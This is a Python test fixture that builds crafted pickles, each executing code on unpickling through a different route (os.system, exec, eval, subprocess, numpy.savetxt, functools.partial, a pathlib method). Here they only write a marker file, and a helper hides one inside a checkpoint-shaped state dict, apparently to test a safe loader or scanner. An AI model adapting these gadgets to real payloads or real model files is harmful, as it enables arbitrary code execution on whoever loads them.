"""Crafted pickles that create a marker file when unpickled without restriction: one per way a pickle can
reach code (a shell, the interpreter, a numpy writer, a wrapped callable, a method of a class, a
subprocess). Each `PAYLOADS[name](marker)` returns an object whose unpickling writes `marker`."""

from __future__ import annotations

import builtins
import functools
import os
import pathlib
import subprocess

import numpy as np


class Reduce:
    """Pickles as `func(*args)`: unpickling calls it."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _os_system(marker):
    return Reduce(os.system, f"touch {marker}")


def _exec(marker):
    return Reduce(builtins.exec, f"open({str(marker)!r}, 'w').close()")


def _eval(marker):
    return Reduce(builtins.eval, f"open({str(marker)!r}, 'w').close()")


def _numpy_writer(marker):  # a numpy function, not a shell: numpy.savetxt writes the file
    return Reduce(np.savetxt, str(marker), np.zeros(1))


def _partial(marker):  # a callable wrapped in functools.partial, called with no arguments
    return Reduce(functools.partial(os.system, f"touch {marker}"))


def _path_method(marker):  # an unbound method of an ordinary class: pathlib.Path.touch(Path(marker))
    return Reduce(pathlib.Path.touch, pathlib.Path(marker))


def _subprocess(marker):
    return Reduce(subprocess.call, ["touch", str(marker)])


PAYLOADS = {
    "os.system": _os_system,
    "builtins.exec": _exec,
    "builtins.eval": _eval,
    "numpy.savetxt": _numpy_writer,
    "functools.partial": _partial,
    "pathlib.Path.touch": _path_method,
    "subprocess.call": _subprocess,
}


def state_dict_with(payload):
    """A checkpoint-shaped dict (tensors where they belong) carrying the payload in a side entry."""
    import torch

    return {"state_dict": {"w": torch.zeros(2)}, "hyper_parameters": {"lr": 1e-4}, "x": payload}
